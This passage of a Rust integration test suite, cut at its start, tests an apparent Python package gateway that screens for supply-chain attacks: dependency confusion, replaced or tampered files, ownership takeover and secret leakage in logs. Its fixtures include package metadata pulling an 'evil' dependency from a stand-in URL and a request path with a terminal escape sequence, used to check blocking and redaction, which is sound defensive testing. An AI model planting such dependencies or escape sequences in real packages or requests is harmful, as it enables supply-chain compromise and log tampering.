        .args(["-c", script, &port, "tls/chain.pem"])
        .current_dir(set.sandbox.work())
        .env_remove("SSL_CERT_FILE")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        text.contains(&format!("https://localhost:{port}/files/")),
        "{output:?}"
    );
    let plain = gateway.raw("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n");
    assert!(
        plain.line.is_empty() || !plain.line.contains("200"),
        "{}",
        plain.line
    );
    set.sandbox.write("tls/key.pem", "nonsense");
    let feed = root().join("examples/feeds");
    let got = set.sandbox.run(&[
        "gateway",
        "--listen",
        "127.0.0.1:0",
        "--index-url",
        &set.upstream.url(),
        "--feed",
        feed.to_str().unwrap(),
    ]);
    assert_eq!(got.code, 2, "{}", got.whole());
    assert!(
        got.stderr.contains("TLS cannot be spoken"),
        "{}",
        got.stderr
    );
}

#[test]
fn the_cache_is_made_smaller_by_hand() {
    let set = Set::new();
    let gateway = set.start();
    assert_eq!(gateway.ask(&Set::path("1.0", &set.old), "").status(), 200);
    let gc = |words: &[&str]| {
        let mut all = vec!["gateway", "gc"];
        all.extend(words);
        set.sandbox.run(&all)
    };
    let kept = gc(&[]);
    assert!(
        kept.stdout.starts_with("dropped 0 artifacts"),
        "{}",
        kept.whole()
    );
    let dropped = gc(&["--keep", "0MB"]);
    assert!(
        dropped.stdout.starts_with("dropped 1 artifacts"),
        "{}",
        dropped.whole()
    );
    // What went is fetched again.
    assert_eq!(gateway.ask(&Set::path("1.0", &set.old), "").status(), 200);
    assert_eq!(gc(&["--keep", "much"]).code, 2);
    assert_eq!(Sandbox::new().run(&["gateway", "gc"]).code, 4);
}

#[test]
fn a_name_that_left_its_home_is_not_anybody_s() {
    let (private, public) = (Upstream::new(), Upstream::new());
    let (mine, theirs) = (good("1.0"), good("9999.0"));
    private.project("good", &[("good-1.0-py3-none-any.whl", &mine, OLD)]);
    public.project("good", &[("good-9999.0-py3-none-any.whl", &theirs, OLD)]);
    let sandbox = Sandbox::new();
    let upstreams = |owned: &str| {
        format!(
            "{FRESH}[[gateway.upstream]]\nname = \"private\"\nurl = \"{}\"\n[[gateway.upstream]]\nname = \"public\"\nurl = \"{}\"\n{owned}",
            private.url(),
            public.url()
        )
    };
    let start = |configuration: &str| Running::start(&sandbox, &public.url(), configuration);
    let gateway = start(&upstreams(""));
    assert_eq!(gateway.ask(&Set::path("1.0", &mine), "").status(), 200);
    drop(gateway);
    private.put("/simple/good/", Answer::status(404));
    let gateway = start(&upstreams(""));
    let got = gateway.ask(&Set::path("9999.0", &theirs), "");
    assert!(got.line.contains("HOG-ID-confusion"), "{}", got.line);
    drop(gateway);
    // It has moved, and somebody says so.
    let gateway = start(&upstreams("owned = [\"good\"]\n"));
    assert_eq!(gateway.ask(&Set::path("9999.0", &theirs), "").status(), 200);
}

#[test]
fn what_mends_everything_older_need_not_wait() {
    let set = Set::new();
    let (old, young) = (good("1.0"), good("2.0"));
    let provenance = |repository: &str| {
        Answer::html(format!(
            r#"{{"version":1,"attestation_bundles":[{{"publisher":{{"kind":"GitHub","repository":"{repository}"}},"attestations":[]}}]}}"#
        ))
    };
    let told = |version: &str, time: &str| format!("{time} data-provenance=\"/p/{version}\"");
    set.upstream.project(
        "good",
        &[
            ("good-1.0-py3-none-any.whl", &old, &told("1.0", OLD)),
            ("good-2.0-py3-none-any.whl", &young, &told("2.0", YOUNG)),
        ],
    );
    set.upstream.put("/p/1.0", provenance("acme/good"));
    let feed = set.sandbox.work().join("feed");
    copy(&root().join("examples/feeds"), &feed);
    let flaw = r#"{"id":"EX-2026-9","modified":"2026-11-18T00:00:00Z","summary":"reads too far","database_specific":{"severity":"HIGH"},"affected":[{"package":{"ecosystem":"PyPI","name":"good"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"2.0"}]}]}]}"#;
    std::fs::write(feed.join("EX-2026-9.json"), flaw).unwrap();
    let feed = feed.to_str().unwrap();
    let asked = |configuration: &str, publisher: &str| {
        set.upstream.put("/p/2.0", provenance(publisher));
        let sandbox = Sandbox::new();
        let gateway = Running::start_with(&sandbox, &set.upstream.url(), configuration, feed);
        gateway.ask(&Set::path("2.0", &young), "").line
    };
    // What an index says of publishers anybody could have written: only attestations that hold count.
    let same = asked("", "acme/good");
    assert!(same.contains("HOG-STATUS-new"), "{same}");
    let other = asked("", "mallory/good");
    assert!(other.contains("HOG-STATUS-new"), "{other}");
    let off = asked("[gateway]\nfast-lane = false\n", "acme/good");
    assert!(off.contains("HOG-STATUS-new"), "{off}");
    // Nothing older is flawed once an older release mends it.
    let mended = good("1.1");
    set.upstream.project(
        "good",
        &[
            ("good-1.0-py3-none-any.whl", &old, &told("1.0", OLD)),
            ("good-1.1-py3-none-any.whl", &mended, &told("1.0", OLD)),
            ("good-2.0-py3-none-any.whl", &young, &told("2.0", YOUNG)),
        ],
    );
    let flaw = flaw.replace("\"fixed\":\"2.0\"", "\"fixed\":\"1.1\"");
    std::fs::write(format!("{feed}/EX-2026-9.json"), flaw).unwrap();
    let mended = asked("", "acme/good");
    assert!(mended.contains("HOG-STATUS-new"), "{mended}");
}

#[test]
fn requests_are_logged_without_what_may_be_secret() {
    let set = Set::new();
    let log = set.sandbox.work().join("access.jsonl");
    let named = log.to_str().unwrap();
    let gateway = Running::start_by(&set.sandbox, &set.upstream.url(), "", |program| {
        let mut shell = std::process::Command::new("sh");
        let script = format!("shift; exec \"$0\" gateway --access-log '{named}' \"$@\"");
        shell.arg("-c").arg(script).arg(program);
        shell
    });
    gateway.ask(
        "/simple/good/?token=secret",
        "Authorization: Basic c2VjcmV0\r\n",
    );
    gateway.ask("/a\u{1b}[2Jb", "");
    gateway.ask("/readyz", "");
    let began = Instant::now();
    let lines = loop {
        let text = std::fs::read_to_string(&log).unwrap_or_default();
        if text.lines().count() >= 2 {
            break text;
        }
        assert!(began.elapsed() < Duration::from_secs(10), "{text}");
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(
        !lines.contains("secret") && !lines.contains("c2VjcmV0"),
        "{lines}"
    );
    let first: serde_json::Value = serde_json::from_str(lines.lines().next().unwrap()).unwrap();
    assert_eq!(first["path"], "/simple/good/");
    assert_eq!(first["status"], 200);
    assert_eq!(first["client"], "127.0.0.1");
    assert!(first["bytes"].as_u64().unwrap() > 100, "{first}");
}

#[test]
fn what_an_upstream_said_before_counts_while_it_is_away() {
    let set = Set::new();
    let start = || Running::start(&set.sandbox, &set.upstream.url(), FRESH);
    let gateway = start();
    assert_eq!(gateway.ask(&Set::path("1.0", &set.old), "").status(), 200);
    assert_eq!(gateway.ask("/simple/nobody/", JSON).status(), 404);
    drop(gateway);
    set.upstream.put("/simple/good/", Answer::status(403));
    set.upstream.put("/simple/nobody/", Answer::status(403));
    let gateway = start();
    let page = gateway.ask("/simple/good/", JSON);
    assert_eq!(page.status(), 200, "{}", page.text());
    assert_eq!(gateway.ask(&Set::path("1.0", &set.old), "").status(), 200);
    // That it had no such project then says nothing now.
    assert_eq!(gateway.ask("/simple/nobody/", JSON).status(), 503);
    let log = ["gateway", "audit", "--kind", "upstream"];
    let began = Instant::now();
    while !set
        .sandbox
        .run(&log)
        .stdout
        .contains("what it said before counts")
    {
        assert!(began.elapsed() < Duration::from_secs(10));
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(gateway);
    // Once it answers again, what it says now counts.
    set.upstream
        .project("good", &[("good-2.0-py3-none-any.whl", &good("2.0"), OLD)]);
    let gateway = start();
    let page = gateway.ask("/simple/good/", JSON).text();
    assert!(
        page.contains("good-2.0") && !page.contains("good-1.0"),
        "{page}"
    );
}

#[test]
fn what_lies_in_the_cache_is_not_believed_by_its_name() {
    let set = Set::new();
    let gateway = set.start();
    let path = Set::path("1.0", &set.old);
    assert_eq!(gateway.ask(&path, "").status(), 200);
    drop(gateway);
    let [kept] = walk(&set.sandbox.cache().join("blobs")).try_into().unwrap();
    std::fs::write(&kept, bad()).unwrap();
    let gateway = set.start();
    let got = gateway.ask(&path, "");
    assert_eq!((got.status(), &got.body), (200, &set.old), "{}", got.line);
    assert_eq!(std::fs::read(&kept).unwrap(), set.old);
}

#[test]
fn an_exchange_is_noticed_without_announced_digests() {
    let set = Set::new();
    let page = |bytes: &[u8]| {
        let link = format!(
            "<a href=\"/files/good-1.0-py3-none-any.whl\" {OLD}>good-1.0-py3-none-any.whl</a>"
        );
        set.upstream.put("/simple/good/", Answer::html(link));
        set.upstream.put(
            "/files/good-1.0-py3-none-any.whl",
            Answer::file(bytes.to_vec()),
        );
    };
    page(&set.old);
    let path = "/files/good/-/good-1.0-py3-none-any.whl";
    let gateway = set.start();
    assert_eq!(gateway.ask(path, "").status(), 200);
    drop(gateway);
    page(&good("1.5"));
    let gateway = set.start();
    let got = gateway.ask(path, "");
    assert!(got.line.contains("HOG-ID-replaced"), "{}", got.line);
}

#[test]
fn what_has_no_announced_digest_is_withheld_on_the_page_too() {
    let set = Set::new();
    let file = "lurk-1.0-py3-none-any.whl";
    let page = format!("<a href=\"/files/{file}\" {OLD}>{file}</a>");
    set.upstream.put("/simple/lurk/", Answer::html(page));
    set.upstream
        .put(&format!("/files/{file}"), Answer::file(bad()));
    let plain = "[gateway]\nlook-ahead = false\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), plain);
    let before = gateway.ask("/simple/lurk/", JSON);
    assert!(
        !before.text().contains("withheld by policy"),
        "{}",
        before.text()
    );
    let got = gateway.ask(&format!("/files/lurk/-/{file}"), "");
    assert_eq!(got.status(), 403, "{}", got.line);
    let after = gateway.ask("/simple/lurk/", JSON);
    assert!(
        after.text().contains("withheld by policy"),
        "{}",
        after.text()
    );
    assert_ne!(before.header("etag"), after.header("etag"));
}

#[test]
fn what_was_seen_on_pages_is_remembered() {
    let set = Set::new();
    let wheel = |build: &str| {
        let text = format!("X = {build:?}\n");
        archives::wheel("good", "1.0", &[("good.py", text)], "")
    };
    let page = |files: &[(&str, &[u8])]| {
        let all: Vec<_> = files
            .iter()
            .map(|(name, bytes)| (*name, *bytes, OLD))
            .collect();
        set.upstream.project("good", &all);
    };
    let rules = format!("{FRESH}[policy.rules]\nHOG-ID-replaced = \"block\"\n");
    let look = || {
        let gateway = Running::start(&set.sandbox, &set.upstream.url(), &rules);
        gateway.ask("/simple/good/", JSON).text()
    };
    let (one, two) = (wheel("1"), wheel("2"));
    page(&[("good-1.0-py3-none-any.whl", &one)]);
    assert!(!look().contains("withheld by policy"));
    // Nobody has ever asked for the file: the page alone tells.
    page(&[("good-1.0-py3-none-any.whl", &two)]);
    let told = look();
    assert!(
        told.contains("withheld by policy: HOG-ID-replaced"),
        "{told}"
    );
    // Nor is it forgotten by being seen again; a further file beside the old one is none of that.
    assert!(look().contains("HOG-ID-replaced"));
    page(&[
        ("good-1.0-py3-none-any.whl", &one),
        ("good-1.0-1-py3-none-any.whl", &two),
    ]);
    let told = look();
    assert!(!told.contains("withheld by policy"), "{told}");
    page(&[("good-1.0-2-py3-none-any.whl", &two)]);
    let told = look();
    assert!(
        told.contains("withheld by policy: HOG-ID-replaced"),
        "{told}"
    );
}

#[test]
fn another_owner_is_noticed_where_the_index_tells() {
    let set = Set::new();
    let file = "acme-1.0-py3-none-any.whl";
    let page = format!(
        "<a href=\"/files/{file}#sha256={}\">{file}</a>",
        "a".repeat(64)
    );
    set.upstream.put("/simple/acme/", Answer::html(page));
    let owned_by = |user: &str| {
        let document = format!(
            "{{\"info\":{{\"name\":\"acme\",\"version\":\"1.0\"}},\"releases\":{{\"1.0\":[{{\"filename\":\"{file}\",\"upload_time_iso_8601\":\"2024-01-02T03:04:05Z\"}}]}},\"ownership\":{{\"roles\":[{{\"role\":\"Owner\",\"user\":\"{user}\"}}],\"organization\":null}}}}"
        );
        let answer = Answer {
            media: "application/json",
            ..Answer::html(document)
        };
        set.upstream.put("/pypi/acme/json", answer);
    };
    let look = |rules: &str| {
        let rules = format!("{FRESH}{rules}");
        let gateway = Running::start(&set.sandbox, &set.upstream.url(), &rules);
        gateway.ask("/simple/acme/", JSON).text()
    };
    let rules = "[policy.rules]\nHOG-ID-takeover = \"block\"\n";
    owned_by("ada");
    assert!(!look(rules).contains("withheld by policy"));
    owned_by("eve");
    // Told by itself, and a reason to withhold where somebody says so.
    assert!(!look("").contains("withheld by policy"));
    let told = look(rules);
    assert!(
        told.contains("withheld by policy: HOG-ID-takeover"),
        "{told}"
    );
}

#[test]
fn other_methods_are_refused_as_such() {
    let set = Set::new();
    let token = format!(
        "[[gateway.token]]\nname = \"ci\"\nsha256 = \"{}\"\n",
        hex(b"secret")
    );
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), &token);
    let ask = |method: &str, path: &str| {
        gateway.raw(&format!(
            "{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n"
        ))
    };
    for path in ["/healthz", "/readyz", "/metrics"] {
        let got = ask("OPTIONS", path);
        assert_eq!(got.status(), 405, "{path}");
        assert_eq!(got.header("allow").as_deref(), Some("GET, HEAD"));
        assert_eq!(ask("HEAD", path).status(), 200, "{path}");
    }
    // Of anything else nothing is told to strangers.
    assert_eq!(ask("OPTIONS", "/simple/good/").status(), 401);
}

#[test]
fn what_requires_something_from_an_address_is_withheld() {
    let set = Set::new();
    let needs = "Requires-Dist: evil @ https://index.example/evil-1.0-py3-none-any.whl\n";
    let bytes = archives::wheel("good", "1.0", &[("good.py", "X = 1\n".to_owned())], needs);
    set.upstream
        .project("good", &[("good-1.0-py3-none-any.whl", &bytes, OLD)]);
    let gateway = set.start();
    let got = gateway.ask(&Set::path("1.0", &bytes), "");
    assert!(got.line.contains("HOG-ID-moving-source"), "{}", got.line);
    drop(gateway);
    let looked = "[gateway]\nallow = [\"good==1.0\"]\n";
    let gateway = Running::start(&set.sandbox, &set.upstream.url(), looked);
    assert_eq!(gateway.ask(&Set::path("1.0", &bytes), "").status(), 200);
}

#[test]
fn a_build_that_requires_something_from_an_address_is_withheld() {
    let set = Set::new();
    for (at, (file, text)) in [
        (
            "pyproject.toml",
            "[build-system]\nrequires = [\"evil @ https://index.example/evil-1.0-py3-none-any.whl\"]\n",
        ),
        (
            "setup.cfg",
            "[options]\nsetup_requires =\n  wheel\n  evil @ https://index.example/evil-1.0-py3-none-any.whl\n",
        ),
    ]
    .into_iter()
    .enumerate()
    {
        let version = format!("1.{at}");
        let bytes = archives::sdist("good", &version, &[(file, text.to_owned())]);
        let name = format!("good-{version}.tar.gz");
        set.upstream.project("good", &[(&name, &bytes, OLD)]);
        let gateway = Running::start(&set.sandbox, &set.upstream.url(), FRESH);
        let path = format!("/files/good/{}/{name}", hex(&bytes));
        let got = gateway.ask(&path, "");
        assert!(got.line.contains("HOG-ID-moving-source"), "{file}: {}", got.line);
        assert!(got.text().contains("evil from https://index.example/"), "{}", got.text());
    }
}
